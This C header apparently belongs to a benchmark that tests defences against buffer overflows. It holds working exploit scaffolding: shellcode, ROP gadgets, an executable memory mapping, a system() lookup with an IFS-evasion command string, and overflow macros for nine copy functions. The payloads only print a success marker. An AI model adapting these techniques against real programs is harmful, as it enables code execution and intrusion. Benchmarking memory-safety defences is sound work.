/*
 * attack_common.h — shared by the attack programs.
 *
 * Each attack program is built from one source with -D options choosing
 *   BW_WHERE  1 stack, 2 heap, 3 .bss, 4 .data        (where the buffer lives)
 *   BW_HOW    1 memcpy, 2 strcpy, 3 strncpy, 4 sprintf, 5 snprintf,
 *             6 strcat, 7 sscanf %s, 8 fscanf %s, 9 hand-written loop
 *   BW_TO     1 injected code, 2 libc function (system), 3 gadget
 * and prints ATTACK-SUCCEEDED when control flow was hijacked.  Exit code 77
 * means "this combination does not apply here" (e.g. the compiler placed the
 * target below the buffer, or an address contains a byte the copy method
 * cannot carry), and the runner counts it as not applicable.
 *
 * The "attacker" builds its payload in-process from addresses it is given
 * (a stand-in for an information leak): the program's own gadgets, a
 * system() address from dlsym (a libc address no instrumented code took),
 * and shellcode copied into a writable+executable mapping.  All state the
 * vulnerable functions use after the overflow lives in globals, so the
 * overflow cannot clobber it.
 */
#ifndef BW_ATTACK_COMMON_H
#define BW_ATTACK_COMMON_H

#include <dlfcn.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <unistd.h>

#define W_STACK 1
#define W_HEAP 2
#define W_BSS 3
#define W_DATA 4

#define H_MEMCPY 1
#define H_STRCPY 2
#define H_STRNCPY 3
#define H_SPRINTF 4
#define H_SNPRINTF 5
#define H_STRCAT 6
#define H_SSCANF 7
#define H_FSCANF 8
#define H_LOOP 9

#define T_CODE 1
#define T_LIBC 2
#define T_GADGET 3

#define NOT_APPLICABLE 77
#define CMD "echo${IFS}ATTACK-SUCCEEDED;#"

/* Copy methods that stop at a NUL byte (only the last address of a payload
 * can be written, its zero top bytes supplied by the terminator). */
#define HOW_IS_STRING (BW_HOW >= H_STRCPY && BW_HOW <= H_SSCANF)
#define HOW_IS_SCANF (BW_HOW == H_SSCANF || BW_HOW == H_FSCANF)
/* Methods that append a NUL after what they copy (fscanf %s carries NUL
 * bytes inside the data, but still terminates). */
#define HOW_TERMINATES (HOW_IS_STRING || BW_HOW == H_FSCANF)

/* Gadgets that live in the program's own code: a "win" sequence in the
 * middle of a function, `pop %rdi; ret` and `ret`. */
__asm__(".text\n"
        ".globl bw_gadget_host\n.type bw_gadget_host,@function\n"
        "bw_gadget_host:\n push %rbp\n mov %rsp,%rbp\n nop\n nop\n nop\n"
        ".globl bw_gadget\nbw_gadget:\n"
        " lea bw_gadget_msg(%rip), %rsi\n mov $1, %edi\n mov $17, %edx\n mov $1, %eax\n syscall\n"
        " mov $60, %eax\n xor %edi, %edi\n syscall\n pop %rbp\n ret\n"
        ".globl bw_pop_rdi\nbw_pop_rdi:\n pop %rdi\n ret\n"
        ".globl bw_ret\nbw_ret:\n ret\n"
        ".section .rodata\nbw_gadget_msg: .ascii \"ATTACK-SUCCEEDED\\n\"\n.text\n");
extern char bw_gadget[], bw_pop_rdi[], bw_ret[];

/* write(1, "ATTACK-SUCCEEDED\n", 17); exit(0) — position independent. */
static const unsigned char shellcode[] = {
    0x48, 0x8d, 0x35, 0x1a, 0x00, 0x00, 0x00, /* lea msg(%rip),%rsi */
    0xbf, 0x01, 0x00, 0x00, 0x00,             /* mov $1,%edi */
    0xba, 0x11, 0x00, 0x00, 0x00,             /* mov $17,%edx */
    0xb8, 0x01, 0x00, 0x00, 0x00,             /* mov $1,%eax */
    0x0f, 0x05,                               /* syscall */
    0xb8, 0x3c, 0x00, 0x00, 0x00,             /* mov $60,%eax */
    0x31, 0xff,                               /* xor %edi,%edi */
    0x0f, 0x05,                               /* syscall */
    'A', 'T', 'T', 'A', 'C', 'K', '-', 'S', 'U', 'C', 'C', 'E', 'E', 'D', 'E', 'D', '\n',
};

static unsigned char pl[1024];     /* the payload */
static volatile size_t plen;       /* its length, terminator included */
static volatile size_t li;         /* loop index for the hand-written copy */
static volatile size_t off;        /* offset of the target from the buffer */
static FILE *volatile pfile;

static void na(const char *why)
{
    printf("not applicable: %s\n", why);
    fflush(stdout);
    exit(NOT_APPLICABLE);
}

/* Can an address be carried by the copy method?  n = bytes written. */
static int carriable(uintptr_t a, int n)
{
    for (int i = 0; i < n; i++) {
        unsigned char c = (unsigned char)(a >> (8 * i));
        if (c == 0 && HOW_IS_STRING)
            return 0;
        if (HOW_IS_SCANF && (c == 0x20 || (c >= 0x09 && c <= 0x0d) || (c == 0 && BW_HOW == H_SSCANF)))
            return 0;
    }
    return 1;
}

static void check_bytes(const unsigned char *p, size_t n)
{
    for (size_t i = 0; i < n; i++) {
        unsigned char c = p[i];
        if (HOW_IS_STRING && c == 0)
            na("payload needs a NUL byte before its end");
        if (HOW_IS_SCANF && (c == 0x20 || (c >= 0x09 && c <= 0x0d)))
            na("payload contains whitespace");
    }
}

static void put_addr(size_t at, uintptr_t a)
{
    memcpy(pl + at, &a, 8);
}

/* Appends the final address of a payload; for string methods only the six
 * low bytes plus the terminator are written. */
static void finish_with_addr(size_t at, uintptr_t a)
{
    if (!carriable(a, HOW_TERMINATES ? 6 : 8))
        na("target address has a byte the copy method cannot carry");
    check_bytes(pl, at);
    put_addr(at, a);
    plen = HOW_TERMINATES ? at + 7 : at + 8; /* the terminator writes byte 7 */
    if (HOW_TERMINATES && (a >> 48) != 0)
        na("address wider than 48 bits");
}

static void finish_binary(size_t len)
{
    if (HOW_IS_STRING)
        na("payload is binary (several addresses)");
    check_bytes(pl, len);
    plen = len;
}

static void fill_cmd(size_t n)
{
    memset(pl, 'A', n);
    if (BW_TO == T_LIBC) {
        if (n < sizeof CMD)
            na("buffer too small for the command");
        memcpy(pl, CMD, sizeof CMD - 1);
    }
}

static uintptr_t injected_code(void)
{
    void *want = (void *)0x6a6b6c6d6000ul; /* address bytes carriable by string copies */
    unsigned char *p = (unsigned char *)mmap(want, 4096, PROT_READ | PROT_WRITE | PROT_EXEC,
                            MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED_NOREPLACE, -1, 0);
    if ((void *)p == MAP_FAILED)
        na("cannot map the injected-code page");
    memcpy(p + 0x141, shellcode, sizeof shellcode);
    return (uintptr_t)(p + 0x141);
}

static uintptr_t libc_system(void)
{
    void *s = dlsym(RTLD_DEFAULT, "system");
    if (!s)
        na("no system()");
    return (uintptr_t)s;
}

/* Where a hijacked function pointer goes. */
static uintptr_t redirect_target(void)
{
    switch (BW_TO) {
    case T_CODE: return injected_code();
    case T_LIBC: return libc_system();
    default: return (uintptr_t)bw_gadget;
    }
}

static void prepare_file(void)
{
    if (BW_HOW != H_FSCANF)
        return;
    FILE *f = tmpfile();
    if (!f)
        na("no tmpfile");
    fwrite(pl, 1, HOW_TERMINATES && plen > 0 && pl[plen - 1] == 0 ? plen - 1 : plen, f);
    rewind(f);
    pfile = f;
}

/* The overflow itself, written out at each site so the destination is as
 * visible to the compiler as in real code. */
#if BW_HOW == H_MEMCPY
#define OVERFLOW(dst) memcpy((dst), pl, plen)
#elif BW_HOW == H_STRCPY
#define OVERFLOW(dst) strcpy((dst), (const char *)pl)
#elif BW_HOW == H_STRNCPY
#define OVERFLOW(dst) strncpy((dst), (const char *)pl, plen)
#elif BW_HOW == H_SPRINTF
#define OVERFLOW(dst) sprintf((dst), "%s", (const char *)pl)
#elif BW_HOW == H_SNPRINTF
#define OVERFLOW(dst) snprintf((dst), plen, "%s", (const char *)pl)
#elif BW_HOW == H_STRCAT
#define OVERFLOW(dst) ((dst)[0] = '\0', strcat((dst), (const char *)pl))
#elif BW_HOW == H_SSCANF
#define OVERFLOW(dst) sscanf((const char *)pl, "%s", (dst))
#elif BW_HOW == H_FSCANF
#define OVERFLOW(dst) fscanf(pfile, "%s", (dst))
#elif BW_HOW == H_LOOP
#define OVERFLOW(dst) for (li = 0; li < plen; li++) (dst)[li] = (char)pl[li]
#else
#error "BW_HOW"
#endif

#endif
